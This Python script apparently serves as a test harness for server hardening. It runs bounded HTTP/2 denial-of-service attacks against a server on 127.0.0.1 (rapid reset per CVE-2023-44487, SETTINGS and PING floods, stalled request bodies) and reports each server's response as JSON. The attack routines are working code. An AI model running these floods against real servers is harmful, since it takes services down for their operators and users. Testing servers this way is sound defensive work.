#!/usr/bin/env python3
"""Hostile HTTP/2 clients against a server on 127.0.0.1, with the real `h2`
package (PyPI) framing every byte. Bounded in count and time; prints one JSON
line with what each attack saw.

    python3 hostile_h2.py PORT ATTACK [COUNT]

ATTACK is one of:
  rapid-reset   open streams and reset each at once (CVE-2023-44487)
  settings      flood SETTINGS frames
  ping          flood PING frames
  stalled-body  open streams that announce a body and never send it
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

DEADLINE_SECONDS = 20


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(port, method="GET", extra=()):
    return [(":method", method), (":path", "/h2-attack"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"), *extra]


def drain(sock, conn, seconds):
    """Reads until the peer closes or `seconds` pass; returns what was seen."""
    seen = {"goaway": None, "resets": 0, "responses": 0, "closed": False, "ping_acks": 0}
    sock.settimeout(0.2)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            seen["closed"] = True
            break
        if not data:
            seen["closed"] = True
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            seen["closed"] = True
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                seen["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.StreamReset):
                seen["resets"] += 1
            elif isinstance(event, h2.events.ResponseReceived):
                seen["responses"] += 1
            elif isinstance(event, h2.events.PingAckReceived):
                seen["ping_acks"] += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            seen["closed"] = True
            break
    return seen


def send_all(sock, conn):
    try:
        sock.sendall(conn.data_to_send())
        return True
    except OSError:
        return False


def rapid_reset(port, count):
    sock, conn = connect(port)
    sent = 0
    started = time.monotonic()
    for _ in range(count):
        if time.monotonic() - started > DEADLINE_SECONDS:
            break
        try:
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers(port), end_stream=True)
            conn.reset_stream(stream)
        except (h2.exceptions.ProtocolError, h2.exceptions.StreamIDTooLowError):
            break
        sent += 1
        if sent % 100 == 0 and not send_all(sock, conn):
            break
    send_all(sock, conn)
    seen = drain(sock, conn, 3)
    sock.close()
    return {"streams_opened_and_reset": sent, **seen}


def flood(port, count, frame, what):
    """Sends `count` control frames made by `frame(conn, i)`, then listens."""
    sock, conn = connect(port)
    sent = 0
    for i in range(count):
        try:
            frame(conn, i)
        except h2.exceptions.ProtocolError:
            break
        sent += 1
        if sent % 100 == 0 and not send_all(sock, conn):
            break
    send_all(sock, conn)
    seen = drain(sock, conn, 3)
    sock.close()
    return {what: sent, **seen}


def settings_flood(port, count):
    change = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
    return flood(port, count, lambda conn, i: conn.update_settings({change: 65535 + (i % 2)}), "settings_sent")


def ping_flood(port, count):
    return flood(port, count, lambda conn, i: conn.ping(i.to_bytes(8, "big")), "pings_sent")


def stalled_body(port, count):
    sock, conn = connect(port)
    opened = 0
    for _ in range(count):
        try:
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers(port, "POST", [("content-length", "1000")]), end_stream=False)
            conn.send_data(stream, b"x" * 10, end_stream=False)
        except h2.exceptions.ProtocolError:
            break
        opened += 1
    send_all(sock, conn)
    # Wait past the server's body timeout: it must answer (408) or reset each stream.
    seen = drain(sock, conn, 6)
    sock.close()
    return {"streams_stalled": opened, **seen}


ATTACKS = {"rapid-reset": rapid_reset, "settings": settings_flood, "ping": ping_flood, "stalled-body": stalled_body}


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
    result = ATTACKS[attack](port, count)
    print(json.dumps({"attack": attack, **result}))


if __name__ == "__main__":
    main()
